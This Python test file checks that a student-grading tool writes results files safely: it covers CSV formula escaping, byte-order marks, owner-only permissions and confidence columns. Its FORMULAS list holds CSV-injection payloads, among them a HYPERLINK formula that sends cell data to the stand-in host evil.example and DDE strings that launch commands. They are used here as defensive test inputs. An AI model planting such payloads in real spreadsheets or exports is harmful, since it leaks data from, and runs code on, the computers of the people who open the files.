"""Results files a teacher can open (issue 21, item 4): no formula cells, a
UTF-8 byte-order mark, owner-only files; and a spreadsheet's CSV export
(with its mark) reads as input. Issue 22: the grade's confidence and review
flag in both files, its whole distribution in JSONL."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from consumer.contract import EvaluationResult
from consumer.spreadsheets import FORMULA_STARTS, csv_text, restore_cell, safe_cell, write_private
from consumer.tools.files import read_items, read_results, write_results

# What a hostile id_alumno or a model's feedback could hold (OWASP CSV injection).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Nota")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "=1+1\n=2+2",
]


def result(i: int, id_alumno: str, feedback: str) -> EvaluationResult:
    return EvaluationResult.model_validate({
        "result_id": f"j#{i}", "job_id": "j", "item_index": i, "id_alumno": id_alumno, "status": "ok",
        "nota": 3, "feedback": feedback, "error": None, "model": "m", "prompt_sha256": "0" * 64,
        "sampling": {"temperature": 0.1, "top_p": 0.95, "max_tokens": 380, "seed": 0},
        "latency_ms": 1.0, "produced_at": "2026-12-02T10:00:00Z",
    })  # fmt: skip


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_no_cell_of_a_results_csv_is_a_formula_and_every_one_reads_back(tmp_path: Path) -> None:
    results = [result(i, text, text) for i, text in enumerate(FORMULAS)]
    path = tmp_path / "results.csv"
    path.write_text("old, world-readable", encoding="utf-8")
    path.chmod(0o644)
    write_results(results, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads à, ç, l·l as UTF-8
    rows = cells(raw.decode("utf-8"))
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    by_index = {int(row[2]): row for row in rows[1:]}
    for i, text in enumerate(FORMULAS):
        assert restore_cell(by_index[i][3]) == text and restore_cell(by_index[i][6]) == text
    assert os.stat(path).st_mode & 0o777 == 0o600  # also when the file was there, wider


def test_a_catalan_csv_round_trips_with_its_mark_and_jsonl_is_owner_only(tmp_path: Path) -> None:
    text = "Molt bé: la fotosíntesi i la clorofil·la, ben explicades. Açò és correcte."
    write_results([result(0, "Núria", text)], tmp_path / "r.csv")
    write_results([result(0, "Núria", text)], tmp_path / "r.jsonl")
    row = cells((tmp_path / "r.csv").read_text(encoding="utf-8"))[1]
    assert row[3] == "Núria" and row[6] == text
    assert os.stat(tmp_path / "r.jsonl").st_mode & 0o777 == 0o600
    assert text in (tmp_path / "r.jsonl").read_text(encoding="utf-8")  # JSONL is data: kept as sent


def test_an_excel_export_with_a_byte_order_mark_reads_as_items(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes(
        b"\xef\xbb\xbfid_alumno,curso,consigna,respuesta\r\nA1,3r,Explica.,Resposta amb accents: \xc3\xa0\r\n"
    )
    (only,) = read_items(path, 10)
    assert only.id_alumno == "A1" and only.respuesta.endswith("à")


@pytest.mark.parametrize("value", [*FORMULAS, "", "normal", "'", "3", "-"])
def test_safe_cell_is_undone_by_restore_cell(value: str) -> None:
    safe = safe_cell(value)
    assert isinstance(safe, str) and not safe.startswith(FORMULA_STARTS)
    assert restore_cell(safe) == value


def test_numbers_and_nulls_are_left_alone_and_the_header_is_plain() -> None:
    text = csv_text(("a", "b", "c"), [{"a": -1, "b": None, "c": "-x"}])
    assert text == "\ufeffa,b,c\r\n-1,,'-x\r\n"
    assert safe_cell(-1) == -1 and safe_cell(None) is None


def test_write_private_creates_owner_only(tmp_path: Path) -> None:
    write_private(tmp_path / "m.jsonl", "{}\n")
    assert os.stat(tmp_path / "m.jsonl").st_mode & 0o777 == 0o600


def graded(i: int, nota: int, probabilities: list[float], review_below: float = 0.5) -> EvaluationResult:
    """An ok result with contract 1.2's grade distribution."""
    confidence = probabilities[nota]
    return result(i, f"A{i}", "Bé.").model_copy(
        update={"nota": nota, "nota_probabilities": probabilities, "confidence": confidence,
                "needs_review": confidence < review_below}
    )  # fmt: skip


def failed(i: int) -> EvaluationResult:
    return EvaluationResult.model_validate({
        **result(i, f"A{i}", "x").model_dump(mode="json"),
        "status": "error", "nota": None, "feedback": None, "error": {"code": "input_too_long", "message": "too long"},
    })  # fmt: skip


SURE = [0.0, 0.01, 0.02, 0.9, 0.05, 0.02]
UNSURE = [0.0, 0.05, 0.4, 0.45, 0.1, 0.0]


def test_results_csv_has_confidence_and_needs_review_beside_the_grade(tmp_path: Path) -> None:
    results = [graded(0, 3, SURE), graded(1, 3, UNSURE), failed(2), result(3, "A3", "sense distribució")]
    write_results(results, tmp_path / "r.csv")
    header, *rows = cells((tmp_path / "r.csv").read_text(encoding="utf-8"))
    assert header[header.index("feedback") + 1 : header.index("feedback") + 3] == ["confidence", "needs_review"]
    assert "nota_probabilities" not in header  # six numbers: JSONL only
    by_index = {int(row[2]): dict(zip(header, row, strict=True)) for row in rows}
    assert (float(by_index[0]["confidence"]), by_index[0]["needs_review"]) == (0.9, "false")
    assert (float(by_index[1]["confidence"]), by_index[1]["needs_review"]) == (0.45, "true")
    # An error result, and an ok result of a consumer with the distribution off: empty cells, not 0 or false.
    assert (by_index[2]["confidence"], by_index[2]["needs_review"]) == ("", "")
    assert (by_index[3]["confidence"], by_index[3]["needs_review"]) == ("", "")


def test_results_jsonl_keeps_the_distribution_and_reads_back(tmp_path: Path) -> None:
    results = [graded(0, 3, SURE), graded(1, 3, UNSURE), failed(2)]
    write_results(results, tmp_path / "r.jsonl")
    lines = [json.loads(line) for line in (tmp_path / "r.jsonl").read_text(encoding="utf-8").splitlines()]
    assert lines[0]["nota_probabilities"] == SURE and lines[0]["confidence"] == 0.9
    assert lines[1]["needs_review"] is True and lines[0]["needs_review"] is False
    assert not {"nota_probabilities", "confidence", "needs_review"} & lines[2].keys()  # error results have none
    assert read_results(tmp_path / "r.jsonl") == results
